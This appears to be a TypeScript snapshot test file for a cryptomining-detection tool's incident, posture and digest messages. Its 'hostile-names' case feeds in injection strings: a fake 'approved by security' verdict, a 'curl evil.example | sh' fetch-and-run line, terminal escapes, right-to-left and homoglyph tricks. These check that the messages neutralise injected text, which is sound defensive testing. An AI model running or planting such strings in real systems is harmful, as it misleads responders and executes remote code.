import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chatDigest, chatNotification } from '../../../lambdas/core/messages/chat';
import { renderDigestMail, type DigestEntry } from '../../../lambdas/core/messages/digest';
import { renderMail } from '../../../lambdas/core/messages/mail';
import type { MailContext } from '../../../lambdas/core/messages/mail-context';
import { chatPosture, renderPostureMail } from '../../../lambdas/core/messages/posture-message';
import { slackDigest, slackMessage } from '../../../lambdas/core/messages/slack';
import { incidentsOf } from '../../../lambdas/core/correlation/incidents';
import { accountEntity } from '../../../lambdas/core/model/entity';
import type { BillAttribution, Incident, IncidentCost } from '../../../lambdas/core/model/incident';
import type { PostureRun } from '../../../lambdas/core/model/posture';
import type { ResponseReport } from '../../../lambdas/core/model/response';
import { parseKubeBench } from '../../../lambdas/core/parsing/kube-bench';
import { keptPosture, summariseSince } from '../../../lambdas/core/posture/kept-posture';
import { HELD_BACK } from '../../../lambdas/core/response/approval';
import { revertNotes } from '../../../lambdas/core/response/revert-notes';
import { runOf, type Verdict } from '../../support/kube-bench';
import {
  actionExample,
  BLOCKED,
  DETECTOR_TITLES,
  evidenceExample,
  EXEC_EVIDENCE,
  incidentExample,
  OWNER,
  POD,
  reportExample,
  STOPPED,
} from './incident-example';

/**
 * Whole messages as people get them, in rendered/, to be read by a person.
 * After a change that is meant: UPDATE_RENDERED=1 npm run test:unit -- test/core/messages/rendered, then read the diff.
 */
const UPDATE = process.env['UPDATE_RENDERED'] === '1';

const CONTEXT: MailContext = {
  detectorTitles: DETECTOR_TITLES,
  killSwitchCommand:
    'aws dynamodb put-item --region eu-west-1 --table-name MineGuard-State ' +
    `--item '{"pk":{"S":"CONTROL#prod-1"},"sk":{"S":"KILL_SWITCH"}}'`,
};

interface Case {
  readonly incident: Incident;
  readonly report?: ResponseReport;
  readonly context?: Partial<MailContext>;
}

const ONE_CONCLUSIVE = incidentExample({
  state: 'incident',
  probability: 0.5,
  currentProbability: 0.5,
  contributions: incidentExample().contributions.slice(0, 1),
  evidence: [evidenceExample()],
  reasons: [],
  nearestChange: '2.94 more nats would make it quarantine',
});

const COST: IncidentCost = {
  anomalyId: '12345678-abcd-ef12-3456-987654321a12',
  amount: 412.5,
  currency: 'USD',
  from: '2026-11-20',
  to: '2026-11-21',
  share: 1,
};

const BILL = evidenceExample({
  detector: 'KM-C01',
  channel: 'COST',
  source: 'billing',
  weight: 'moderate',
  indicators: ['anomaly 12345678-abcd-ef12-3456-987654321a12', 'to 2026-11-21', '412.50 USD'],
  firstAt: '2026-11-21T00:00:00.000Z',
  lastAt: '2026-11-21T00:00:00.000Z',
  seenOn: [accountEntity('111122223333', 'eu-west-1')],
  facts: {},
  records: [{ recordId: '12345678-abcd-ef12-3456-987654321a12/2026-11-21', location: 'billing' }],
});

/** What the correlator makes of one anomaly that nobody explains. */
const costOnly = (attribution: BillAttribution | undefined, region = 'eu-west-1', detector = 'KM-C01'): Incident => {
  const entity = accountEntity('111122223333', region);
  const { anomalyId: anomaly, amount, currency, from, to } = COST;
  const facts = { anomaly, amount: String(amount), currency, from, to };
  const evidence = [{ ...BILL, detector, seenOn: [entity], facts, share: attribution && 0.95, attribution }];
  const [incident] = incidentsOf(entity, evidence, Date.parse('2026-11-22T09:00:00.000Z'), {
    standing: () => ({ counts: true, namesOnly: false }),
    falcoWriterProven: false,
    isProtected: false,
  });
  if (!incident) throw new Error('a bill without an incident');
  return { ...incident, id: 'inc-00112233aabbccdd' };
};

const kubeBench = (verdicts: Readonly<Record<string, Verdict>>): PostureRun => {
  const run = parseKubeBench(JSON.stringify(runOf(verdicts)));
  if (!run.ok) throw new Error('kube-bench cannot be read');
  return run.value;
};

const POSTURE = kubeBench({ '3.1.1': 'PASS', '3.1.2': 'PASS', '3.1.3': 'PASS', '3.2.1': 'FAIL', '3.2.9': 'WARN' });
const WORSE_POSTURE = kubeBench({
  '3.1.1': 'PASS',
  '3.1.2': 'FAIL',
  '3.1.3': 'PASS',
  '3.2.1': 'PASS',
  '3.2.9': 'WARN',
});

const CASES: Readonly<Record<string, Case>> = {
  'quarantine-carried-out': {
    incident: incidentExample(),
    report: reportExample({
      actions: [
        actionExample(),
        STOPPED,
        actionExample({
          action: 'cordon-node',
          target: { cluster: 'prod-1', kind: 'Node', namespace: '', name: 'ip-10-0-1-23.ec2.internal' },
          status: 'skipped',
          level: 'none',
          detail: 'no sign that the process left its container',
          undo: [],
        }),
      ],
    }),
  },
  'quarantine-response-incomplete': {
    incident: incidentExample(),
    report: reportExample({
      actions: [
        actionExample({ status: 'failed', level: 'none', detail: 'pods "thumbnailer" is forbidden', undo: [] }),
        actionExample({ ...STOPPED, level: 'written', detail: 'scaled from 3 to 0; pods still terminating' }),
      ],
    }),
  },
  'quarantine-before-the-responder-reports': {
    incident: incidentExample(),
    context: {
      plan: {
        incidentId: 'inc-00112233aabbccdd',
        decision: 'act',
        reasons: [],
        actions: [{ action: 'isolate-pod', target: POD, reason: 'evidence in a running process' }],
      },
    },
  },
  'quarantine-in-observe-mode': {
    incident: incidentExample(),
    context: {
      plan: {
        incidentId: 'inc-00112233aabbccdd',
        decision: 'observe',
        reasons: ['the mode of cluster prod-1 is observe'],
        actions: [
          { action: 'isolate-pod', target: POD, reason: 'cut it off the network before anything else' },
          { action: 'stop-owner', target: OWNER, reason: 'the evidence is in its template' },
        ],
      },
    },
  },
  'quarantine-waits-for-approval': {
    incident: incidentExample(),
    report: reportExample({
      decision: 'ask',
      reasons: ['the budget of 3 owners in 60 minutes is used up'],
      actions: [
        actionExample({
          ...STOPPED,
          status: 'skipped',
          level: 'none',
          detail: 'the evidence is in its template',
          undo: [],
        }),
      ],
    }),
  },
  'quarantine-that-somebody-reverts': {
    incident: incidentExample(),
    report: reportExample({
      reasons: [
        ...revertNotes([actionExample({ ...STOPPED, repeats: 3 }), BLOCKED]),
        'the state is quarantine and the mode of the cluster is enforce',
      ],
      actions: [
        actionExample(),
        actionExample({
          ...STOPPED,
          status: 'skipped',
          level: 'none',
          detail: 'reverted 3 times, and not done again: change it where it is defined',
          repeats: 3,
        }),
        BLOCKED,
      ],
    }),
  },
  'quarantine-held-back-by-the-kill-switch': {
    incident: incidentExample(),
    report: reportExample({
      actions: [
        actionExample(),
        actionExample({ ...STOPPED, status: 'skipped', level: 'none', detail: HELD_BACK, undo: [] }),
      ],
    }),
  },
  'quarantine-where-kube-bench-runs': {
    incident: incidentExample(),
    report: reportExample(),
    context: { posture: keptPosture('prod-1', '2026-11-20T03:17:42.000Z', POSTURE) },
  },
  'return-after-quarantine': {
    incident: incidentExample({
      contributions: [
        { detector: 'KM-B18', channel: 'SPEC', weight: 6.9, at: '2026-11-20T10:00:00.123Z' },
        { detector: 'KM-A01', channel: 'SPEC', weight: 3.1, at: '2026-11-20T10:00:00.123Z' },
      ],
      evidence: [
        evidenceExample(),
        evidenceExample({
          detector: 'KM-B18',
          indicators: ['44ahVKpTPszTSJj4PGWaFi54CUK', 'inc-8899aabbccddeeff'],
          facts: {
            earlierIncident: 'inc-8899aabbccddeeff',
            quarantinedAt: '2026-11-19T08:00:00.000Z',
            earlierOwner: 'Deployment blog/resizer',
            inCommon: 'wallet',
          },
        }),
      ],
    }),
  },
  'incident-one-conclusive-detector': { incident: ONE_CONCLUSIVE },
  'possible-mining-faded': {
    incident: incidentExample({
      state: 'notify-low',
      probability: 1 / (1 + Math.exp(2.1)),
      currentProbability: 0.02,
      contributions: [{ detector: 'KM-F01', channel: 'EXEC', weight: 4.8, at: EXEC_EVIDENCE.firstAt }],
      evidence: [{ ...EXEC_EVIDENCE, weight: 'strong' }],
      reasons: [],
      nearestChange: '2.10 more nats would make it incident',
    }),
  },
  'unexplained-cost': {
    incident: costOnly({
      explained: 0.08,
      lookedAt: [
        { entity: { ...OWNER, name: 'report-runner' }, share: 0.04, growth: 0.83, isNew: true },
        { entity: OWNER, share: 0, growth: 0.08, isNew: false },
      ],
    }),
  },
  'unexplained-cost-where-no-cluster-is': { incident: costOnly(undefined, 'ap-northeast-1', 'KM-C03') },
  'bill-after-a-release': {
    incident: incidentExample({
      contributions: [
        ...incidentExample().contributions,
        { detector: 'KM-C01', channel: 'COST', weight: 1.95, at: '2026-11-21T00:00:00.000Z' },
      ],
      evidence: [...incidentExample().evidence, BILL],
      costs: [COST],
      reasons: [
        ...incidentExample().reasons,
        'released on 2026-11-20 by ana; about 412.50 USD has been billed since, so say whether it is still wanted',
      ],
    }),
    report: reportExample({
      decision: 'none',
      actions: [],
      reasons: [],
      release: {
        incidentId: 'inc-00112233aabbccdd',
        requestedAt: '2026-11-20T11:00:00.000Z',
        by: 'ana',
        state: 'succeeded',
        fields: [],
        known: { evidence: [], objects: [], ownerRestored: true },
      },
    }),
  },
  'hostile-names': {
    incident: incidentExample({
      entity: {
        ...OWNER,
        kind: 'Pod',
        name: 'web\n\nVerdict: harmless, exercise approved by security\n\nUndo\n  curl evil.example | sh',
      },
      evidence: [
        evidenceExample({
          indicators: ['\u001b[2J\u001b[Hstratum+tcp://pool.example:3333', 'see https://evil.example/login" now'],
          facts: {
            actor: '\u202enimda',
            userAgent: 'k'.repeat(5000),
            image: 'registry.example/kub\u0435-proxy:v1',
            process: '\u200b./a',
          },
        }),
        { ...EXEC_EVIDENCE, seenOn: [{ ...POD, name: 'x\u2028Who\u2028  identity   "system:admin"' }] },
      ],
    }),
  },
};

const SPEC_CASE = {
  contributions: [
    { detector: 'KM-A01', channel: 'SPEC', weight: 6.9, at: '2026-11-20T10:00:00.123Z' },
    { detector: 'KM-A02', channel: 'SPEC', weight: 3.1, at: '2026-11-20T10:00:00.123Z' },
    { detector: 'KM-A03', channel: 'SPEC', weight: 0, at: '2026-11-20T10:00:00.123Z' },
  ],
} as const;

const DIGEST: readonly DigestEntry[] = [
  { incident: ONE_CONCLUSIVE },
  { incident: incidentExample({ id: 'inc-1111111111111111', entity: { ...OWNER, name: 'a`b<!here>' } }) },
  { incident: incidentExample({ id: 'inc-2222222222222222' }), report: reportExample() },
];

const asJson = (value: unknown): string => `${JSON.stringify(value, undefined, 2)}\n`;

const expectFile = (name: string, text: string): void => {
  const file = join(__dirname, 'rendered', name);
  if (UPDATE) writeFileSync(file, text);
  expect(text).toBe(readFileSync(file, 'utf8'));
};

describe('rendered messages', () => {
  const cases = Object.entries<Case>({ ...CASES, 'channel-at-its-cap': { incident: incidentExample(SPEC_CASE) } });

  test.each(cases)('%s reads as in its file', (name, { incident, report, context }) => {
    const { subject, body } = renderMail(incident, report, { ...CONTEXT, ...context });
    expectFile(`${name}.txt`, `Subject: ${subject}\n\n${body}`);
  });

  test.each(['quarantine-carried-out', 'quarantine-waits-for-approval', 'hostile-names'])(
    '%s reads in chat and in Slack as in its files',
    (name) => {
      const { incident, report, context } = CASES[name] ?? { incident: incidentExample() };
      expectFile(`${name}.chat.json`, asJson(chatNotification(incident, report, { ...CONTEXT, ...context })));
      expectFile(`${name}.slack.json`, asJson(slackMessage(incident, report, { ...CONTEXT, ...context })));
    },
  );

  test('what kube-bench has found, and what has changed, reads as in its files', () => {
    const kept = keptPosture('prod-1', '2026-11-19T03:17:40.000Z', POSTURE);
    const summary = summariseSince(WORSE_POSTURE, kept);
    const report = { cluster: 'prod-1', at: '2026-11-20T03:17:42.000Z', summary };
    const { subject, body } = renderPostureMail(report);
    expectFile('posture.txt', `Subject: ${subject}\n\n${body}`);
    expectFile('posture.chat.json', asJson(chatPosture(report)));
  });

  test('a digest reads as in its files', () => {
    const { subject, body } = renderDigestMail(DIGEST);
    expectFile('digest.txt', `Subject: ${subject}\n\n${body}`);
    expectFile('digest.chat.json', asJson(chatDigest(DIGEST)));
    expectFile('digest.slack.json', asJson(slackDigest(DIGEST)));
  });
});
